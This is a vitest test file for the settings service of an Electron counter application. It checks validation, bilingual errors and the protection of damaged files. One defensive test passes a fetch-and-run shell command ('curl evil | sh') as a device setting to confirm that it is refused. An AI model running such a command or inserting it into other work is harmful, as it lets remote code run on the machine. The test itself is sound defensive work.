// Settings are validated on every write; a bad value is refused and the file is untouched.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { refusal } from '../../helpers/refusal';
import { confSettingsPort } from '../../../electron/core/settings/confPort';
import { SettingsService } from '../../../electron/core/settings/service';
import { BilingualError } from '../../../base/contract/errors';
import { tempDir } from '../../helpers/tempDir';

describe('settings', () => {
  it('starts from defaults and saves a valid change', () => {
    const dir = tempDir();
    const s = new SettingsService(confSettingsPort(dir));
    expect(s.get().hall.counterId).toBe('03');
    const c = s.update({ hall: { counterId: '07' }, till: { toleranceFen: 1000 } });
    expect(c.before.hall.counterId).toBe('03');
    expect(c.after.hall.counterId).toBe('07');
    const again = new SettingsService(confSettingsPort(dir));
    expect(again.get().hall.counterId).toBe('07');
    expect(again.get().till.toleranceFen).toBe(1000);
    expect(again.get().hall.hallName).toBe('示范营业厅');
  });

  it('refuses a bad value with a bilingual error and leaves the file byte-identical', () => {
    const dir = tempDir();
    const s = new SettingsService(confSettingsPort(dir));
    s.update({ hall: { hallName: '人民路营业厅' } });
    const file = path.join(dir, 'settings.json');
    const before = fs.readFileSync(file);
    for (const bad of [
      { hall: { counterId: '三号!' } },
      { till: { toleranceFen: -1 } },
      { till: { toleranceFen: 1.5 } },
      { devices: { printer: { paperWidth: 76 } } },
      { nonsense: true },
      { hall: { counterId: '05', unknownField: 1 } },
    ]) {
      const err = refusal(() => s.update(bad));
      expect(err.code).toBe('INVALID_INPUT');
      expect(err.message_zh).toMatch(/输入内容不正确/);
      // The Chinese message is Chinese: zod's English wording stays in message_en.
      expect(err.message_zh).not.toMatch(/Invalid|Too (small|big)|expected/);
    }
    expect(fs.readFileSync(file).equals(before)).toBe(true);
    expect(s.get().hall.hallName).toBe('人民路营业厅');
  });

  it('reports a damaged settings file, runs on defaults and never overwrites it', () => {
    const dir = tempDir();
    const file = path.join(dir, 'settings.json');
    fs.writeFileSync(file, '{"hall": {"counterId": ');
    const s = new SettingsService(confSettingsPort(dir));
    expect(s.loadError?.code).toBe('SETTINGS_UNREADABLE');
    expect(s.get().hall.counterId).toBe('03');
    expect(() => s.update({ hall: { counterId: '09' } })).toThrow(BilingualError);
    expect(fs.readFileSync(file, 'utf8')).toBe('{"hall": {"counterId": ');
  });

  it('reports a settings file with invalid values', () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, 'settings.json'), JSON.stringify({ devices: { printer: { paperWidth: 12 } } }));
    const s = new SettingsService(confSettingsPort(dir));
    expect(s.loadError?.code).toBe('SETTINGS_INVALID');
    expect(s.loadError?.message_en).toContain('devices.printer.paperWidth');
    expect(s.loadError?.message_zh).toContain('devices.printer.paperWidth：');
  });
});

describe('nothing in the settings runs a program', () => {
  it('a photo decoder command is refused as install-only, whatever its value, and the file is untouched', () => {
    const dir = tempDir();
    const s = new SettingsService(confSettingsPort(dir));
    s.update({ hall: { hallName: '人民路营业厅' } });
    const file = path.join(dir, 'settings.json');
    const before = fs.readFileSync(file);
    for (const value of ['/bin/sh -c "curl evil | sh"', '/opt/vendor/wlt2bmp', null]) {
      const err = refusal(() => s.update({ devices: { idcard: { port: '/dev/ttyUSB0', photoDecoderCommand: value } } }));
      expect(err.code).toBe('SETTING_INSTALL_ONLY');
      expect(err.message_zh).toContain('安装配置文件');
      expect(err.message_en).toContain('install file');
      expect(err.detail).toEqual({ field: ['devices', 'idcard', 'photoDecoderCommand'] });
    }
    expect(fs.readFileSync(file).equals(before)).toBe(true);
    expect(JSON.stringify(s.get())).not.toContain('photoDecoder');
  });

  it('an old settings file holding one keeps its other values; the key is dropped from the file with a warning', () => {
    const dir = tempDir();
    const file = path.join(dir, 'settings.json');
    fs.writeFileSync(file, JSON.stringify({ hall: { counterId: '05' }, devices: { idcard: { mode: 'serial', port: '/dev/ttyUSB0', photoDecoderCommand: '/tmp/x.sh' } } }));
    const s = new SettingsService(confSettingsPort(dir));
    expect(s.loadError).toBeNull();
    expect(s.get().devices.idcard).toMatchObject({ mode: 'serial', port: '/dev/ttyUSB0' });
    expect(s.get().hall.counterId).toBe('05');
    expect(s.notices.map((n) => n.code)).toEqual(['SETTING_RETIRED']);
    expect(s.notices[0]!.message_zh).toContain('devices.idcard.photoDecoderCommand');
    expect(s.notices[0]!.message_en).toContain('no longer used');
    expect(fs.readFileSync(file, 'utf8')).not.toContain('photoDecoderCommand');
    expect(new SettingsService(confSettingsPort(dir)).notices).toEqual([]);
  });
});

describe('the business calendar setting', () => {
  it('is validated: a closing time before the opening time is refused', () => {
    const s = new SettingsService(confSettingsPort(tempDir()));
    expect(s.get().till.calendar.weekly.mon).toEqual({ open: '09:00', close: '18:00' });
    const cal = { ...s.get().till.calendar, exceptions: [{ date: '2026-12-31', hours: { open: '09:00', close: '15:00' }, note: '跨年提前闭厅' }] };
    expect(s.update({ till: { calendar: cal } }).after.till.calendar.exceptions).toHaveLength(1);
    const bad = { ...cal, weekly: { ...cal.weekly, mon: { open: '18:00', close: '09:00' } } };
    expect(() => s.update({ till: { calendar: bad } })).toThrow(BilingualError);
    expect(s.get().till.calendar.weekly.mon).toEqual({ open: '09:00', close: '18:00' });
  });
});
